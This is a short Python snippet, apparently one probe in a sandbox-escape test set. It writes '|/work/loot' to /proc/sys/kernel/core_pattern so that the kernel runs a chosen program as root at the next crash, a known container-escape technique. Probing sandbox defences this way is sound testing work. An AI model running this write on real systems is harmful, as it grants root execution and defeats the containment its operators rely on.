"""Has the kernel run a program at the next crash.

Stopped by: no /proc.
"""

def attempt(where):
    with open("/proc/sys/kernel/core_pattern", "w") as file:
        return file.write("|/work/loot") > 0
